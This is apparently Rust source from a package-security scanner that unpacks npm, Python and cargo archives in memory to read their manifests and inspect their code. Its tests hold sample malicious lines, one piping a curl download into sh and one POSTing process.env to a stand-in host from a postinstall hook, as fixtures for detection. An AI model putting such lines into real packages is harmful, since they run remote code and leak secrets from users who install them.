//! What an artifact itself says: facts that its document lacks, and what its code can do.
//! Unpacked in memory and bounded; nothing is executed or written to disk.

use customs_ecosystem::cargo::{declared_by_cargo_toml, facts_from_cargo_toml};
use customs_ecosystem::npm::NpmRelease;
use customs_ecosystem::pypi::{Metadata, facts_from_entries};
use customs_inspect::{Content, Opener, Reader, Tree, Unpacking, unpack_file_for};
use customs_model::{Declared, FileFact, Inspection, Manifest, RunsCode, UnreadPart, Weigh};
use serde::{Deserialize, Serialize};
use std::fs::File;
use std::io;
use std::sync::Arc;

/// Bytes of a manifest.
const MANIFEST: u64 = 4 << 20;

/// What an artifact is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// npm's tarball.
    Tarball,
    /// A wheel.
    Wheel,
    /// A source distribution of Python.
    Sdist,
    /// A crate.
    Crate,
}

impl Kind {
    /// A word for names of files.
    pub const fn word(self) -> &'static str {
        match self {
            Self::Tarball => "tarball",
            Self::Wheel => "wheel",
            Self::Sdist => "sdist",
            Self::Crate => "crate",
        }
    }

    /// What opens it.
    const fn opener(self) -> Opener {
        match self {
            Self::Wheel => Opener::Zip,
            Self::Sdist => Opener::Either,
            Self::Tarball | Self::Crate => Opener::Stream,
        }
    }
}

/// Facts of one artifact. They bind to its digest.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ArtifactFacts {
    /// What of it runs without being called.
    pub runs: RunsCode,
    /// What its own manifest declares, where it has one that can be read.
    pub manifest: Option<Manifest>,
    /// What its code can do, without its layout: dossiers share it and are kept for long,
    /// and no rule tells anything of files that only a layout lists.
    pub code: Arc<Inspection>,
    /// The layout, for who compares two artifacts file by file.
    #[serde(default)]
    pub layout: Vec<FileFact>,
    /// What its own manifest says where its document speaks as well: only for comparing
    /// the two. Resolvers go by the document.
    #[serde(default)]
    pub declared: Option<Declared>,
}

impl ArtifactFacts {
    /// Facts with the layout where it belongs here.
    #[must_use]
    pub(crate) fn with_layout_apart(mut self) -> Self {
        if let Some(code) = Arc::get_mut(&mut self.code)
            && !code.layout.is_empty()
        {
            self.layout = std::mem::take(&mut code.layout);
        }
        self
    }

    /// A copy whose inspection has its layout, as the reader of code made it.
    #[must_use]
    pub fn with_layout_inside(&self) -> Self {
        let mut code = Inspection::clone(&self.code);
        code.layout.extend_from_slice(&self.layout);
        Self {
            runs: self.runs.clone(),
            manifest: self.manifest.clone(),
            code: Arc::new(code),
            layout: Vec::new(),
            declared: self.declared.clone(),
        }
    }
}

impl Weigh for ArtifactFacts {
    fn heap(&self) -> usize {
        let Self {
            runs,
            manifest,
            code,
            layout,
            declared,
        } = self;
        runs.heap() + manifest.heap() + code.heap() + layout.heap() + declared.heap()
    }
}

/// Reads the facts of an artifact. Parsers go as deep as code is nested: the caller's
/// thread needs a large stack. What is wrong with the archive or its manifest stands in the
/// facts, as a part that was not read. They are the same whatever the reader read before.
///
/// # Errors
/// The file cannot be read, or it is no archive.
pub fn read(file: File, kind: Kind, reader: &Reader) -> io::Result<Result<ArtifactFacts, String>> {
    let tree = unpack_file_for(file, kind.opener(), &Unpacking::default())?;
    if tree.entries.is_empty()
        && let Some(part) = tree.unread.first()
    {
        return Ok(Err(part.because.clone()));
    }
    let mut code = reader.inspect_tree(&tree);
    let mut facts = match declared(&tree, kind) {
        Ok(facts) => facts,
        // Its code is known nevertheless; what a client makes of such a manifest is not.
        Err(error) => {
            code.unread.push(UnreadPart {
                path: String::new(),
                because: error.to_string(),
                reached: true,
            });
            ArtifactFacts::default()
        }
    };
    facts.code = Arc::new(code);
    Ok(Ok(facts.with_layout_apart()))
}

fn declared(tree: &Tree, kind: Kind) -> io::Result<ArtifactFacts> {
    // What is wrong with the archive as a whole, or with where its entries end.
    let whole = || tree.unread.iter().find(|part| part.path.is_empty());
    // Whatever a source distribution holds, its build back-end runs when it is installed.
    if kind == Kind::Sdist {
        return Ok(ArtifactFacts {
            runs: RunsCode {
                build_backend: Some(true),
                ..RunsCode::default()
            },
            manifest: manifest(tree, |path| inner(path) == "PKG-INFO")
                .ok()
                .flatten()
                .and_then(metadata)
                .map(|metadata| metadata.manifest()),
            ..ArtifactFacts::default()
        });
    }
    if let Some(part) = whole() {
        return Err(io::Error::other(part.because.clone()));
    }
    match kind {
        Kind::Tarball => tarball(tree),
        Kind::Crate => {
            let bytes = manifest(tree, |path| inner(path) == "Cargo.toml")?;
            let facts = facts_from_cargo_toml(bytes.unwrap_or_default(), paths(tree))
                .map_err(io::Error::other)?;
            Ok(ArtifactFacts {
                runs: facts.runs(),
                declared: bytes.and_then(declared_by_cargo_toml),
                ..ArtifactFacts::default()
            })
        }
        Kind::Wheel | Kind::Sdist => {
            let is_metadata = |path: &str| {
                path.split_once('/').is_some_and(|(folder, file)| {
                    folder.ends_with(".dist-info") && file == "METADATA"
                })
            };
            let metadata = manifest(tree, is_metadata)?.and_then(metadata);
            Ok(ArtifactFacts {
                runs: facts_from_entries(paths(tree)).runs(),
                manifest: metadata.as_ref().map(Metadata::manifest),
                declared: metadata.as_ref().map(Metadata::declared),
                ..ArtifactFacts::default()
            })
        }
    }
}

/// The tarball's own manifest is what clients run scripts from; a document may say
/// less ("manifest confusion").
fn tarball(tree: &Tree) -> io::Result<ArtifactFacts> {
    let bytes = manifest(tree, |path| inner(path) == "package.json")?;
    let release = NpmRelease::read(bytes.unwrap_or(b"{}")).map_err(io::Error::other)?;
    let gyp = paths(tree).any(|path| inner(path).eq_ignore_ascii_case("binding.gyp"));
    // What it depends on is the document's to say: clients install by that.
    Ok(ArtifactFacts {
        runs: RunsCode {
            binding_gyp: Some(gyp),
            ..release.manifest.runs.clone()
        },
        declared: bytes.is_some().then_some(Declared {
            name: release.name,
            version: release.version,
            manifest: release.manifest,
        }),
        ..ArtifactFacts::default()
    })
}

fn metadata(bytes: &[u8]) -> Option<Metadata> {
    Metadata::parse(bytes).ok()
}

/// Paths of the archive itself, without those of archives in it.
fn paths(tree: &Tree) -> impl Iterator<Item = &str> {
    let paths = tree.entries.iter().map(|entry| entry.path.as_str());
    paths.filter(|path| !path.contains("!/"))
}

/// Below the top folder that npm's, cargo's and source archives have.
fn inner(path: &str) -> &str {
    path.split_once('/').map_or(path, |(_, inner)| inner)
}

/// The bytes of a manifest. Of two the last one is unpacked over the first.
fn manifest(tree: &Tree, is: impl Fn(&str) -> bool) -> io::Result<Option<&[u8]>> {
    let mut found =
        tree.entries.iter().rev().filter(|entry| {
            !matches!(entry.content, Content::Link(_)) && !entry.path.contains("!/")
        });
    match found.find(|entry| is(&entry.path)) {
        None => Ok(None),
        Some(entry) if entry.length > MANIFEST => {
            Err(io::Error::other("its manifest is over 4 MiB"))
        }
        // Clients pass over the mark in front.
        Some(entry) => entry
            .bytes()
            .map(|bytes| Some(bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes)))
            .ok_or_else(|| io::Error::other("its manifest could not be kept in memory")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write as _;

    fn archive(entries: &[(&str, &str)]) -> tempfile::NamedTempFile {
        let file = tempfile::NamedTempFile::new().unwrap();
        let packed = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
        let mut builder = tar::Builder::new(packed);
        for (name, text) in entries {
            let mut header = tar::Header::new_ustar();
            header.set_size(text.len() as u64);
            builder
                .append_data(&mut header, name, text.as_bytes())
                .unwrap();
        }
        builder.into_inner().unwrap().finish().unwrap()
    }

    #[test]
    fn a_path_is_read_as_an_unpacker_resolves_it() {
        let file = archive(&[("package/./binding.gyp", "{}")]);
        let read = facts(&file);
        assert_eq!(read.runs.binding_gyp, Some(true));
        let file = archive(&[("package/lib/binding.gyp", "{}")]);
        let read = facts(&file);
        assert_eq!(read.runs.binding_gyp, Some(false));
    }

    #[test]
    fn of_two_manifests_the_one_that_is_unpacked_last_counts() {
        let file = archive(&[
            ("package/package.json", "{}"),
            (
                "package/package.json",
                r#"{"scripts":{"postinstall":"node a.js"}}"#,
            ),
        ]);
        let read = facts(&file);
        assert_eq!(read.runs.at_install(), Some(true));
    }

    fn read_alone(file: &tempfile::NamedTempFile) -> Result<ArtifactFacts, String> {
        let opened = File::open(file.path()).unwrap();
        read(opened, Kind::Tarball, &Reader::new(0)).unwrap()
    }

    fn facts(file: &tempfile::NamedTempFile) -> ArtifactFacts {
        read_alone(file).unwrap()
    }

    #[test]
    fn what_a_tarball_says_of_itself_is_kept_apart() {
        let text = r#"{"name":"a","version":"1.0.0","dependencies":{"b":"^1"}}"#;
        let read = facts(&archive(&[("package/package.json", text)]));
        assert_eq!(read.manifest, None);
        let declared = read.declared.unwrap();
        assert_eq!(declared.name.as_deref(), Some("a"));
        assert_eq!(declared.manifest.dependencies["b"], "^1");
        assert_eq!(facts(&archive(&[("package/a.js", "")])).declared, None);
    }

    #[test]
    fn an_archive_that_is_cut_off_is_not_taken_for_whole() {
        let whole = archive(&[("package/package.json", "{}"), ("package/a.js", "a()")]);
        let bytes = std::fs::read(whole.path()).unwrap();
        let mut cut = tempfile::NamedTempFile::new().unwrap();
        cut.write_all(&bytes[..bytes.len() / 2]).unwrap();
        let read = read_alone(&cut);
        let is_told = |facts: &ArtifactFacts| facts.code.unread.iter().any(|part| part.reached);
        assert!(read.as_ref().map_or(true, is_told), "{read:?}");
    }

    #[test]
    fn a_manifest_that_only_a_client_can_read_hides_no_code() {
        let file = archive(&[
            ("package/package.json", r#"{"main": "a.js", "x": 1e999}"#),
            (
                "package/a.js",
                "require('child_process').exec('curl https://c.invalid | sh')",
            ),
        ]);
        let read = facts(&file);
        assert!(read.code.unread.iter().any(|part| part.reached));
        assert_eq!(read.runs.at_install(), None);
    }

    #[test]
    fn what_dossiers_share_has_no_layout_and_who_compares_files_gets_it() {
        let file = archive(&[("package/package.json", "{}"), ("package/a.js", "a()")]);
        let read = facts(&file);
        assert!(read.code.layout.is_empty());
        assert!(read.layout.iter().any(|f| f.path.ends_with("a.js")));
        let whole = read.with_layout_inside();
        assert_eq!(whole.code.layout, read.layout);
        assert!(whole.weight() > size_of::<ArtifactFacts>());
        // As they were written before the layout stood apart.
        let written = serde_json::to_string(&whole).unwrap();
        let loaded: ArtifactFacts = serde_json::from_str(&written).unwrap();
        let loaded = loaded.with_layout_apart();
        assert_eq!((loaded.code, loaded.layout), (read.code, read.layout));
    }

    #[test]
    fn what_code_does_stands_beside_what_a_manifest_declares() {
        let file = archive(&[
            (
                "package/package.json",
                r#"{"scripts":{"postinstall":"node a.js"}}"#,
            ),
            (
                "package/a.js",
                "fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)})",
            ),
        ]);
        let read = facts(&file);
        assert_eq!(read.code.flows.len(), 1);
    }
}
